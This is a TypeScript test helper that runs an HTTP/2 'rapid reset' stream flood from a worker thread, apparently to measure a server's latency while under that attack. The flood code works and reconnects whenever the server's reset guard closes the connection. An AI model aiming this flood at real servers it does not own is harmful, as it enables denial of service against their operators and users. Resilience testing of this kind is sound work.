// Open-then-reset streams (the HTTP/2 "rapid reset" pattern) from a worker
// thread, so the flood does not stall the test's own event loop: latency
// measured alongside it is then the server's, not the test's.
import { Worker } from 'node:worker_threads';

// Plain JavaScript: a worker thread gets no TypeScript transform.
const floodSource = `
const { connect, constants } = require('node:http2');
const { parentPort, workerData } = require('node:worker_threads');
const { address, path, rounds, perRound, pauseMs } = workerData;
let opened = 0;
let connections = 0;
let session;
const fresh = () => {
  connections++;
  session = connect('http://' + address);
  session.on('error', () => {});
};
const round = (n) => {
  if (n === rounds) {
    session.destroy();
    parentPort.postMessage({ opened, connections });
    return;
  }
  for (let i = 0; i < perRound; i++) {
    // The server sent GOAWAY (Node's rapid-reset guard): as an attacker would, connect again.
    if (session.destroyed || session.closed) fresh();
    const stream = session.request(
      { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' },
      { endStream: false },
    );
    stream.on('error', () => {});
    stream.close(constants.NGHTTP2_CANCEL);
    opened++;
  }
  setTimeout(() => round(n + 1), pauseMs);
};
fresh();
session.once('connect', () => round(0));
`;

export interface ResetFlood {
  /** Streams opened (each reset at once). */
  opened: number;
  /** Connections it took: the server closes one that resets too many streams. */
  connections: number;
}

/**
 * `rounds` × `perRound` streams to `path`, each reset as soon as it is
 * opened, on one connection at a time (a new one when the server closes it).
 */
export function resetFlood(
  address: string,
  path: string,
  options: { rounds: number; perRound: number; pauseMs?: number },
): Promise<ResetFlood> {
  return new Promise((resolve, reject) => {
    const worker = new Worker(floodSource, {
      eval: true,
      workerData: { address, path, pauseMs: 20, ...options },
    });
    worker.once('message', (result: ResetFlood) => {
      resolve(result);
      void worker.terminate();
    });
    worker.once('error', reject);
    worker.once('exit', (code) => reject(new Error(`reset flood worker exited (${code})`)));
  });
}
